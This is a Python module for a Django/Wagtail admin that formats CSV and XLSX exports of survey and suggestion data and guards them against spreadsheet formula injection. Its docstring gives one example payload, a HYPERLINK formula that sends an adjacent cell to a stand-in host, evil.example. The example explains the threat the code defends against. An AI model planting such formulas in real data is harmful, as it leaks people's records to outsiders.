"""Spreadsheets staff download from the admin (CSV and XLSX): suggestions,
expressions of interest and survey responses all go through
`ReadableSpreadsheetMixin`, so every export reads the same way and none can
carry a live formula.

What people typed ends up in these cells, and a spreadsheet runs a cell that
starts with "=" (or "+", "-", "@", a tab or a carriage return) as a formula:
`=HYPERLINK("http://evil.example/?"&A2,"Click")` as someone's name would send
the row next to it to a stranger when a member of staff clicks. OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection) is to put a single
quote in front of such a cell, which makes the spreadsheet treat it as text.
"""

import datetime

from django.core.exceptions import FieldDoesNotExist
from django.utils import timezone
from django.utils.encoding import force_str
from django.utils.functional import cached_property
from wagtail.admin.widgets.button import HeaderButton

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_DATETIME_FORMAT = "%Y-%m-%d %H:%M"


def neutralise_formula(value):
    """The one rule every exported cell (and heading) goes through: text a
    spreadsheet would run as a formula gets a leading single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def local_datetime(value):
    """The site's local time, to the second, without a time zone: spreadsheets
    show what the admin shows, never UTC with microseconds."""
    if timezone.is_aware(value):
        value = timezone.localtime(value)
    return value.replace(tzinfo=None, microsecond=0)


def readable_cell(value, spreadsheet_format):
    """A value as a person reads it. XLSX keeps numbers and dates as real
    numbers and dates (so they sort and sum); CSV gets plain text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, (list, tuple)):
        return ", ".join(force_str(item) for item in value)
    if isinstance(value, datetime.datetime):
        value = local_datetime(value)
        return value if spreadsheet_format == "xlsx" else value.strftime(CSV_DATETIME_FORMAT)
    if isinstance(value, (datetime.date, int, float)):
        return value if spreadsheet_format == "xlsx" else force_str(value)
    return force_str(value)


class ReadableSpreadsheetMixin:
    """For a Wagtail view that uses SpreadsheetExportMixin (a ModelViewSet's
    index view, the form builder's submissions list): labels instead of stored
    codes ("Received", not "received"), local dates without microseconds,
    Yes/No, no live formulas, and the download buttons in plain sight rather
    than in the header's "..." menu.

    `export_choices` maps an exported name that is not a model field with
    choices (such as an annotation) to the choices that label its values."""

    export_choices = {}

    def choice_labels(self, field_name):
        if field_name in self.export_choices:
            return dict(self.export_choices[field_name])
        try:
            field = self.model._meta.get_field(field_name)
        except (AttributeError, FieldDoesNotExist):
            return {}
        return dict(field.flatchoices) if field.choices else {}

    @cached_property
    def _choice_labels_by_field(self):
        return {name: self.choice_labels(name) for name in self.list_export}

    def preprocess_field_value(self, field, value, export_format):
        custom = self.custom_field_preprocess.get(field, {}).get(export_format)
        if custom is not None:
            value = custom(value)
        else:
            labels = self._choice_labels_by_field.get(field) or {}
            value = readable_cell(labels.get(value, value), export_format)
        return neutralise_formula(value)

    def get_heading(self, queryset, field):
        # Survey headings are question labels that editors write.
        return neutralise_formula(super().get_heading(queryset, field))

    @cached_property
    def export_buttons(self):
        if not self.show_export_buttons:
            return []
        return [
            HeaderButton("Download XLSX", url=self.xlsx_export_url, icon_name="download"),
            HeaderButton("Download CSV", url=self.csv_export_url, icon_name="download"),
        ]

    @cached_property
    def header_buttons(self):
        return [*super().header_buttons, *self.export_buttons]

    @cached_property
    def header_more_buttons(self):
        export_urls = {self.xlsx_export_url, self.csv_export_url}
        return [button for button in super().header_more_buttons if button.url not in export_urls]
